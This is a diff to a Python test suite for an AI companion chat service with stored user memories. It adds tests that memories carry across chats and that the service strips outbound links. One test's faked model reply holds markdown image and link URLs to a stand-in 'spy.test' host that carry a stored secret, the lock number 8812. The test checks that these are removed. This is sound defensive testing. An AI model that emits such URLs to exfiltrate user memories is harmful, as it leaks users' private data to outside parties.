@@ -7,6 +7,7 @@ from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
 from typing import Any
 
+import httpx
 import openai
 import pytest
 from chat_talks import Talk, heard, said, talker, wait_for
@@ -88,6 +89,35 @@ def test_a_companion_remembers_in_another_talk_what_it_was_told(
     assert "The user plays the cello" in prompt
     Talk(ask, "companion", user="bob").say("What could I do on Sunday? Music, perhaps, cello?")
     assert "The user plays the cello" not in talks_asked(door)[-1]
+
+
+def test_a_companion_recalls_what_was_retained_elsewhere_and_the_lines_of_other_chats(
+    ask: OpenAI, served: Served, client: httpx.Client, door: FakeEndpoint
+) -> None:
+    door.otherwise = talker("Noted.")
+    client.post("/api/v1/users/ann/memories", json={"text": "The bicycle of Ann is in the cellar."})
+    mcp = {"jsonrpc": "2.0", "id": 1, "method": "tools/call"}
+    params = {"name": "retain", "arguments": {"content": "Ann's bicycle lock has the number 8812."}}
+    accepts = {"accept": "application/json, text/event-stream"}
+    client.post("/mcp/ann", json=mcp | {"params": params}, headers=accepts)
+    Talk(ask, "companion", user="ann", chat="first").say("My nephew Emil borrows the bicycle on Fridays.")
+    Talk(ask, "companion", user="ann", chat="second").say("Where is my bicycle?")
+    prompt = talks_asked(door)[-1]
+    assert all(words in prompt for words in ("in the cellar", "8812", "Emil"))
+
+
+def test_a_companion_passes_on_no_address_that_carries_memories_away(
+    ask: OpenAI, client: httpx.Client, door: FakeEndpoint
+) -> None:
+    door.otherwise = talker("Look ![logo](https://spy.test/p.png?d=8812) or [go](//spy.test/8812) at https://a.test/x.")
+    client.post("/api/v1/users/ann/memories", json={"text": "Ann's bicycle lock has the number 8812."})
+    said = "What is the number? See https://a.test/x"
+    assert Talk(ask, "companion", user="ann").say(said) == "Look ![logo](…) or [go](…) at https://a.test/x."
+    temporary = ask.chat.completions.create(
+        model="companion", messages=[{"role": "user", "content": said}],
+        extra_headers={"X-OpenWebUI-Chat-Id": "temporary:1", "X-OpenWebUI-User-Id": "ann"},
+    )  # fmt: skip
+    assert "spy" not in str(temporary.choices[0].message.content)
 
 
 def test_a_companion_chooses_its_words_as_the_client_says(ask: OpenAI, door: FakeEndpoint) -> None:
